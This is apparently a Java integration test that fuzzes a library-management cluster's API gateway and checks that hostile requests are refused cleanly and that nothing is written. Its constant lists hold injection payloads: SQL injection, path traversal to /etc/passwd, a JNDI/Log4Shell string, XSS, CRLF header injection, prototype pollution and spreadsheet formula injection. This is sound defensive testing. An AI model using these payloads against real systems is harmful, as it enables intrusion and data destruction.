package org.tongjie.deploy.cluster;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.UUID;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile input against every endpoint the OpenAPI documents describe, through the gateway: hostile path
 * segments, wrong and huge query values, malformed, mistyped, oversized, deeply nested and invalid UTF-8 bodies,
 * injection strings in every field — sent as a network administrator (so validation, not authentication, is what
 * answers), as a reader, as a bookstore and without a token. Every answer must be below 500, every refusal an
 * RFC 9457 problem, and nothing may be written anywhere (no event in any outbox, no account at the gateway).
 */
class HostileInputIT extends OnSharedCluster {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int MINIMUM_REQUESTS = 10_000;
    private static final List<String> HOSTILE_SEGMENTS = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%00",
            "'%20OR%20'1'='1", "-1", "99999999999999999999999999", "x".repeat(3000), "%F0%9F%98%80%E4%B8%AD",
            "null", "00000000-0000-0000-0000-00000000000g", "%C0%AF", "%25", "%3Cscript%3E", "a%0D%0AX-Injected:1");
    private static final List<String> HOSTILE_VALUES = List.of("abc", "-1", "0", "1e309", "99999999999999999999",
            "x".repeat(3000), "' OR 1=1--", "\u0000", "[]", "{\"$ne\":null}", "2026-13-45", "../../etc/passwd",
            "<script>alert(1)</script>", "\uD83D\uDE00中文", "true");
    private static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "\"; DROP TABLE copy; --",
            "{\"$gt\":\"\"}", "${jndi:ldap://example.invalid/a}", "../../../../etc/passwd", "<img src=x onerror=1>",
            "\u0000\u0001\u0002", "x".repeat(100_000), "=HYPERLINK(\"http://example.invalid\")");

    private record Attempt(String method, String path, String contentType, byte[] body, String token) {
    }

    @Test
    void shouldRefuseEveryHostileRequestCleanlyAndWriteNothing() throws Exception {
        Map<String, Long> before = writesSoFar();
        List<Attempt> attempts = new ArrayList<>();
        Tokens tokens = new Tokens();
        for (String service : List.of("catalog", "loan", "delivery", "gateway")) {
            JsonNode document = service.equals("gateway")
                    ? JSON.readTree(given().queryParam("format", "json").when().get("/q/openapi").then()
                            .statusCode(200).extract().asString())
                    : JSON.readTree(given().when().get("/openapi/" + service).then().statusCode(200).extract()
                            .asString());
            attempts.addAll(attemptsFor(document, tokens));
        }
        assertTrue(attempts.size() >= MINIMUM_REQUESTS, "only " + attempts.size() + " hostile requests generated");

        Queue<String> violations = new ConcurrentLinkedQueue<>();
        Queue<String> accepted = new ConcurrentLinkedQueue<>();
        AtomicInteger sent = new AtomicInteger();
        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        String base = cluster.started().gatewayUrl();
        ExecutorService pool = Executors.newFixedThreadPool(6);
        for (Attempt attempt : attempts) {
            pool.submit(() -> {
                try {
                    HttpResponse<String> response = http.send(request(base, attempt),
                            HttpResponse.BodyHandlers.ofString());
                    sent.incrementAndGet();
                    if (!attempt.method().equals("GET") && response.statusCode() < 300) {
                        accepted.add(attempt.method() + " " + abbreviate(attempt.path()) + " body "
                                + abbreviate(new String(attempt.body(), StandardCharsets.UTF_8)) + " -> "
                                + response.statusCode());
                    }
                    String verdict = verdict(response);
                    if (verdict != null) {
                        violations.add(verdict + ": " + attempt.method() + " " + abbreviate(attempt.path())
                                + " body " + abbreviate(new String(attempt.body(), StandardCharsets.UTF_8)) + " -> "
                                + abbreviate(response.body()));
                    }
                } catch (Exception e) {
                    violations.add("no answer (" + e + "): " + attempt.method() + " " + abbreviate(attempt.path()));
                }
                return null;
            });
        }
        pool.shutdown();
        assertTrue(pool.awaitTermination(10, TimeUnit.MINUTES), "hostile requests still running");
        System.out.printf("Hostile input: %d requests sent, %d violations%n", sent.get(), violations.size());
        assertEquals(List.of(), violations.stream().limit(40).toList(), violations.size() + " violations");
        assertEquals(before, writesSoFar(), "hostile requests wrote something; accepted were " + accepted);

        // Nothing of the hostile traffic lingers in pooled connections: ordinary requests are answered as usual.
        String librarian = SharedCluster.staffToken("librarian.yht");
        List<Integer> answers = new ArrayList<>();
        for (int i = 0; i < 100; i++) {
            answers.add(given().when().get("/api/v1/libraries/JHL").then().extract().statusCode());
            if (i % 10 == 0) {
                answers.add(given().contentType(io.restassured.http.ContentType.JSON).auth().oauth2(librarian)
                        .body(Map.of("title", "寻常的书 " + i)).when().post("/api/v1/records").then().extract()
                        .statusCode() - 1);
            }
        }
        assertEquals(List.of(200), answers.stream().distinct().toList(), "ordinary requests after the hostile ones");
    }

    @Test
    void shouldStoreInjectionStringsAsPlainTextAndFindThemAgain() {
        String librarian = SharedCluster.staffToken("librarian.yht");
        for (String text : INJECTIONS.stream().filter(t -> t.length() <= 500 && !t.contains("\u0000")).toList()) {
            var created = given().contentType(io.restassured.http.ContentType.JSON).auth().oauth2(librarian)
                    .body(Map.of("title", text, "publisher", text)).when().post("/api/v1/records").then().extract();
            assertEquals(201, created.statusCode(), text + " -> " + created.asString());
            String id = created.path("id");
            given().when().get("/api/v1/records/" + id).then().statusCode(200)
                    .body("title", org.hamcrest.Matchers.equalTo(text))
                    .body("publisher", org.hamcrest.Matchers.equalTo(text));
            given().queryParam("q", text).when().get("/api/v1/records").then().statusCode(200);
        }
        given().contentType(io.restassured.http.ContentType.JSON).auth().oauth2(librarian)
                .body(Map.of("title", "a\u0000b")).when().post("/api/v1/records").then().statusCode(400)
                .body("code", org.hamcrest.Matchers.equalTo("INVALID_CHARACTER"));
    }

    /** Null when the answer is acceptable; otherwise what is wrong with it. */
    private static String verdict(HttpResponse<String> response) {
        int status = response.statusCode();
        if (status >= 500) {
            return "server error " + status;
        }
        if (status == 429) {
            return "quota reached (the test must spread its callers)";
        }
        if (status >= 400 && !response.headers().firstValue("Content-Type").orElse("")
                .startsWith("application/problem+json")) {
            return "refusal " + status + " not problem+json (" + response.headers().firstValue("Content-Type")
                    .orElse("none") + ")";
        }
        return null;
    }

    private static List<Attempt> attemptsFor(JsonNode document, Tokens tokens) {
        List<Attempt> attempts = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> paths = document.path("paths").fields(); paths.hasNext();) {
            Map.Entry<String, JsonNode> entry = paths.next();
            String template = entry.getKey().startsWith("/api/v1") ? entry.getKey() : "/api/v1" + entry.getKey();
            if (!template.startsWith("/api/v1/") || template.startsWith("/api/v1/openapi")) {
                continue;
            }
            for (Iterator<Map.Entry<String, JsonNode>> operations = entry.getValue().fields(); operations.hasNext();) {
                Map.Entry<String, JsonNode> operation = operations.next();
                String method = operation.getKey().toUpperCase();
                if (!List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)) {
                    continue;
                }
                List<Attempt> generated = attemptsFor(document, method, template, operation.getValue(), tokens);
                // Sign-in and sign-up share a tight per-address quota that the other suites need too: a few only.
                boolean signIn = template.equals("/api/v1/auth/token")
                        || template.equals("/api/v1/patron-registrations");
                attempts.addAll(signIn ? generated.subList(0, Math.min(5, generated.size())) : generated);
            }
        }
        return attempts;
    }

    private static List<Attempt> attemptsFor(JsonNode document, String method, String template, JsonNode operation,
            Tokens tokens) {
        List<Attempt> attempts = new ArrayList<>();
        boolean hasPathParameters = template.contains("{");
        boolean writes = !method.equals("GET");
        // Hostile path segments: every parameter replaced at once.
        if (hasPathParameters) {
            for (String segment : HOSTILE_SEGMENTS) {
                String path = template.replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(segment));
                attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), tokens.admin()));
                attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), tokens.reader()));
                attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), tokens.bookstore()));
            }
        }
        // Plausible but unknown targets, so that nothing could be changed even by a request that were accepted.
        String path = template.replaceAll("\\{[^}]+}", writes ? UUID.randomUUID().toString() : "FUZZ0");
        // A write with neither body nor target is an action (e.g. run the overdue job now): what an administrator
        // is allowed to do, so it is sent only by callers who must be refused.
        boolean action = writes && !hasPathParameters && !operation.has("requestBody");
        java.util.function.Supplier<String> privileged = action ? tokens::reader : tokens::admin;
        for (JsonNode parameter : operation.path("parameters")) {
            if (!"query".equals(parameter.path("in").asText())) {
                continue;
            }
            String name = parameter.path("name").asText();
            for (String value : HOSTILE_VALUES) {
                String query = "?" + encode(name) + "=" + encode(value);
                attempts.add(new Attempt(method, path + query, null, new byte[0], privileged.get()));
            }
            attempts.add(new Attempt(method, path + "?" + encode(name) + "=1&" + encode(name) + "=2", null,
                    new byte[0], privileged.get()));
        }
        if (!writes) {
            attempts.add(new Attempt(method, path + "?page=-1&size=100000", null, new byte[0], privileged.get()));
            attempts.add(new Attempt(method, path, null, new byte[0], tokens.bookstore()));
            return attempts;
        }
        for (byte[] body : malformedBodies()) {
            attempts.add(new Attempt(method, path, "application/json", body, privileged.get()));
            attempts.add(new Attempt(method, path, "application/json", body, tokens.bookstore()));
        }
        attempts.add(new Attempt(method, path, "text/plain", "{}".getBytes(), privileged.get()));
        attempts.add(new Attempt(method, path, "application/xml", "<a/>".getBytes(), privileged.get()));
        attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), tokens.reader()));
        attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), tokens.bookstore()));
        attempts.add(new Attempt(method, path, "application/json", "{}".getBytes(), null));
        JsonNode schema = resolve(document, operation.path("requestBody").path("content").path("application/json")
                .path("schema"));
        for (Map.Entry<String, JsonNode> field : properties(document, schema).entrySet()) {
            for (Object value : wrongValuesFor(resolve(document, field.getValue()))) {
                ObjectNode body = JSON.createObjectNode();
                body.set(field.getKey(), JSON.valueToTree(value));
                attempts.add(new Attempt(method, path, "application/json", bytes(body), privileged.get()));
                attempts.add(new Attempt(method, path, "application/json", bytes(body), tokens.reader()));
            }
        }
        if (!properties(document, schema).isEmpty()) {
            ObjectNode everything = JSON.createObjectNode();
            properties(document, schema).keySet().forEach(name -> everything.put(name, INJECTIONS.get(0)));
            everything.put("role", "STAFF").put("fineBalanceFen", 0).put("patronType", "STAFF").put("id", "1");
            attempts.add(new Attempt(method, path, "application/json", bytes(everything), privileged.get()));
            attempts.add(new Attempt(method, path, "application/json", bytes(everything), tokens.reader()));
        }
        return attempts;
    }

    private static List<byte[]> malformedBodies() {
        List<byte[]> bodies = new ArrayList<>();
        for (String text : List.of("", "not json", "{", "}", "[]", "null", "123", "\"text\"", "{\"a\":}",
                "{\"a\":1,}", "{'a':1}", "{\"a\":1e400}", "{\"a\":-1e400}", "{\"a\":99999999999999999999999999999}",
                "[{}, {}]", "{\"__proto__\":{\"admin\":true}}", "\uFEFF{}")) {
            bodies.add(text.getBytes(StandardCharsets.UTF_8));
        }
        bodies.add(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
        bodies.add(new byte[] {(byte) 0xFE, (byte) 0xFF, 0, '{', 0, '}'});
        bodies.add(("[".repeat(50_000) + "]".repeat(50_000)).getBytes(StandardCharsets.UTF_8));
        bodies.add(("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)).getBytes(StandardCharsets.UTF_8));
        ByteArrayOutputStream wide = new ByteArrayOutputStream();
        wide.writeBytes("{\"items\":[".getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < 20_000; i++) {
            wide.writeBytes((i == 0 ? "{}" : ",{}").getBytes(StandardCharsets.UTF_8));
        }
        wide.writeBytes("]}".getBytes(StandardCharsets.UTF_8));
        bodies.add(wide.toByteArray());
        return bodies;
    }

    /** Values of the wrong type or out of every sensible range for a field of this schema. */
    private static List<Object> wrongValuesFor(JsonNode schema) {
        String type = schema.path("type").asText("object");
        List<Object> values = new ArrayList<>(List.of(List.of(), Map.of("nested", Map.of()), true));
        if (!type.equals("string")) {
            values.addAll(INJECTIONS);
        }
        switch (type) {
            case "integer", "number" -> values.addAll(List.of("12", -1, Long.MAX_VALUE, Long.MIN_VALUE,
                    new java.math.BigInteger("9".repeat(40)), 1.5, -0.0));
            case "array" -> {
                values.add("not a list");
                List<Object> huge = new ArrayList<>();
                for (int i = 0; i < 5_000; i++) {
                    huge.add("x" + i);
                }
                values.add(huge);
                values.add(java.util.Arrays.asList(null, null));
            }
            case "boolean" -> values.addAll(List.of("yes", 2));
            default -> values.addAll(List.of(42, -1, 1e300, "x".repeat(100_000), "\u0000"));
        }
        return values;
    }

    private static Map<String, JsonNode> properties(JsonNode document, JsonNode schema) {
        Map<String, JsonNode> properties = new LinkedHashMap<>();
        JsonNode resolved = resolve(document, schema);
        resolved.path("properties").fields().forEachRemaining(e -> properties.put(e.getKey(), e.getValue()));
        for (JsonNode part : resolved.path("allOf")) {
            resolve(document, part).path("properties").fields()
                    .forEachRemaining(e -> properties.put(e.getKey(), e.getValue()));
        }
        return properties;
    }

    private static JsonNode resolve(JsonNode document, JsonNode schema) {
        JsonNode current = schema;
        for (int i = 0; i < 5 && current.has("$ref"); i++) {
            String ref = current.path("$ref").asText();
            current = document.at(ref.substring(1));
        }
        return current;
    }

    private static HttpRequest request(String base, Attempt attempt) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(base + attempt.path()))
                .timeout(Duration.ofSeconds(30));
        if (attempt.contentType() != null) {
            builder.header("Content-Type", attempt.contentType());
        }
        if (attempt.token() != null) {
            builder.header("Authorization", "Bearer " + attempt.token());
        }
        HttpRequest.BodyPublisher body = attempt.body().length == 0 && attempt.method().equals("GET")
                ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(attempt.body());
        return builder.method(attempt.method(), body).build();
    }

    /**
     * How many events all topics hold, once nothing is moving: every change a service makes publishes one
     * (transactional outbox), so an unchanged sum means nothing was written. Also the gateway's accounts.
     */
    private static Map<String, Long> writesSoFar() throws Exception {
        Map<String, Long> counts = new LinkedHashMap<>();
        Map<String, Long> previous = null;
        for (int settle = 0; settle < 60 && !counts.equals(previous); settle++) {
            previous = new LinkedHashMap<>(counts);
            Thread.sleep(settle == 0 ? 0 : 2000);
            counts.put("events", SharedCluster.endOffsets(cluster).values().stream().mapToLong(Long::longValue).sum());
            counts.put("gateway accounts", SharedCluster.count(cluster, "gateway",
                    "SELECT (SELECT count(*) FROM staff_account)"
                    + " + (SELECT count(*) FROM machine_client)"));
        }
        return counts;
    }


    /**
     * Tokens signed with the cluster's key. Each identity serves a bounded number of requests, so the per-caller
     * quotas at the gateway never answer in place of the services.
     */
    private static final class Tokens {
        private final AtomicInteger issued = new AtomicInteger();

        String admin() {
            return token("\"fuzz-admin-%d\",\"groups\":[\"ADMIN\"]");
        }

        String reader() {
            return token("\"FUZZ%d\",\"groups\":[\"PATRON\"]");
        }

        String bookstore() {
            return token("\"fuzz-store-%d\",\"groups\":[\"SYSTEM\"],\"library\":\"JHL\",\"bookstore\":\"JHL-XINHUA\"");
        }

        private String token(String subjectAndClaims) {
            int n = issued.incrementAndGet() / 25;
            String subject = String.format(subjectAndClaims, n);
            long now = System.currentTimeMillis() / 1000;
            try {
                return SharedCluster.sign(cluster, "{\"iss\":\"https://tongjie.local/issuer\",\"sub\":"
                        + subject.replaceFirst(",", ",\"upn\":\"fuzz\",") + ",\"iat\":" + now + ",\"exp\":"
                        + (now + 1800) + "}");
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }
    }

    private static byte[] bytes(JsonNode body) {
        try {
            return JSON.writeValueAsBytes(body);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 160 ? text.substring(0, 160) + "…" : text;
    }
}
